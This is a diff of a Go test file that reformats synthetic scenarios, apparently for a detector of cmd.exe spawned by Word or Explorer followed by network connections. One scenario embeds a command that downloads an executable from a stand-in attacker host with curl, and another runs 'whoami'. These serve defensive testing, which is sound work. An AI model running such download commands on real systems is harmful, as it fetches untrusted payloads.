@@ -56,21 +56,39 @@ func conn(host string, sec float64, guid, image, ip string) string {
 func scenarios(t testing.TB) []string {
 	type sc func(h, g string) []string
 	cases := []sc{
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, bat, `C:\Windows\explorer.exe`), conn(h, 3, g, cmdExe, "185.199.110.153")} },
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, `cmd /K whoami`, word), conn(h, 5, g, cmdExe, "8.8.8.8")} },
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "8.8.8.8")} },
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15, g, cmdExe, "8.8.8.8")} },
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15.5, g, cmdExe, "8.8.8.8")} },
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g+"x", cmdExe, "8.8.8.8")} },
-		func(h, g string) []string { return []string{conn(h, 0, g, cmdExe, "8.8.8.8"), start(h, 1, g, cmdExe, bat, word)} },
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, `C:\Windows\explorer.exe`), conn(h, 3, g, cmdExe, "185.199.110.153")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, `cmd /K whoami`, word), conn(h, 5, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 15.5, g, cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g+"x", cmdExe, "8.8.8.8")}
+		},
+		func(h, g string) []string {
+			return []string{conn(h, 0, g, cmdExe, "8.8.8.8"), start(h, 1, g, cmdExe, bat, word)}
+		},
 		func(h, g string) []string {
 			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "8.8.8.8"), conn(h, 2, g, cmdExe, "8.8.4.4"), conn(h, 3, g, cmdExe, "1.1.1.1")}
 		},
 		func(h, g string) []string {
 			return []string{conn(h, 3, g, cmdExe, "1.1.1.1"), conn(h, 2, g, cmdExe, "8.8.4.4"), start(h, 0, g, cmdExe, bat, word)}
 		},
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "10.1.2.3")} },
-		func(h, g string) []string { return []string{start(h, 0, g, cmdExe, bat, ""), conn(h, 1, g, cmdExe, "2606:4700:4700::1111")} },
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, word), conn(h, 1, g, cmdExe, "10.1.2.3")}
+		},
+		func(h, g string) []string {
+			return []string{start(h, 0, g, cmdExe, bat, ""), conn(h, 1, g, cmdExe, "2606:4700:4700::1111")}
+		},
 		func(h, g string) []string {
 			return []string{start(h, 0, g, cmdExe, `CMD.EXE /C curl -o x.exe HTTPS://evil.example/x.exe`, `C:\Windows\explorer.exe`), conn(h, 1, g, cmdExe, "93.184.216.34")}
 		},
